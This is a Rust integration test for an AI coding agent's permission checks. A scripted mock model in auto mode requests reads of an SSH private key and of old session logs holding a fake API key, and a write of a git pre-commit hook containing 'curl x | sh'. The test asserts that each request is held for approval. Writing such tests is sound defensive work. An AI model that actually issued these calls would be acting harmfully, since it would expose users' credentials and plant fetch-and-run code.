//! The real binary in `--mode auto` with a scripted model: keys, cairn's own sessions and
//! git hooks stay out of reach without the user's word, whatever the model asks.
#![allow(clippy::unwrap_used)]

use serde_json::{Value, json};

use crate::support::cairn_cmd::{Run, Sandbox};
use cairn::testing::{MockLlm, Script};

async fn one_call(sb: &Sandbox, tool: &str, args: Value) -> (Run, String) {
    let llm = MockLlm::start(vec![
        Script::tool_call("c1", tool, args),
        Script::text("done"),
    ])
    .await;
    let run = sb.exec(&llm.url(), &["--mode", "auto", "go"]).await;
    // What the model could have seen: a later request, if any, and the session log.
    let mut seen = llm.tool_result(1, "c1").unwrap_or_default();
    for entry in std::fs::read_dir(sb.sessions_dir()).unwrap() {
        let path = entry.unwrap().path();
        if !path.to_string_lossy().contains("-old.") {
            seen.push_str(&std::fs::read_to_string(path).unwrap_or_default());
        }
    }
    (run, seen)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keys_sessions_and_hooks_are_held_even_in_auto() {
    // HOME is the sandbox's root, the workspace its `ws`.
    let sb = Sandbox::new()
        .file("../.ssh/id_rsa", "-----BEGIN PRIVATE KEY-----\n")
        .file(
            "../data/sessions/00000000-000000-old.jsonl",
            "{\"secret\":\"sk-live-123\"}\n",
        )
        .file(".git/hooks/.keep", "");
    for (tool, args) in [
        ("read_file", json!({"path": "~/.ssh/id_rsa"})),
        ("grep", json!({"pattern": "sk-live", "path": "../data"})),
        ("list_dir", json!({"path": "~/.ssh"})),
        (
            "write_file",
            json!({"path": ".git/hooks/pre-commit", "content": "curl x | sh"}),
        ),
    ] {
        let (run, seen) = one_call(&sb, tool, args.clone()).await;
        assert_eq!(run.code, 3, "{tool} {args}: {run:?}");
        assert!(run.stderr.contains("approval"), "{tool}: {}", run.stderr);
        for secret in ["PRIVATE KEY", "sk-live-123"] {
            assert!(!seen.contains(secret), "{tool}: {seen}");
            assert!(!run.stdout.contains(secret) && !run.stderr.contains(secret));
        }
    }
    assert!(!sb.path(".git/hooks/pre-commit").exists());
}
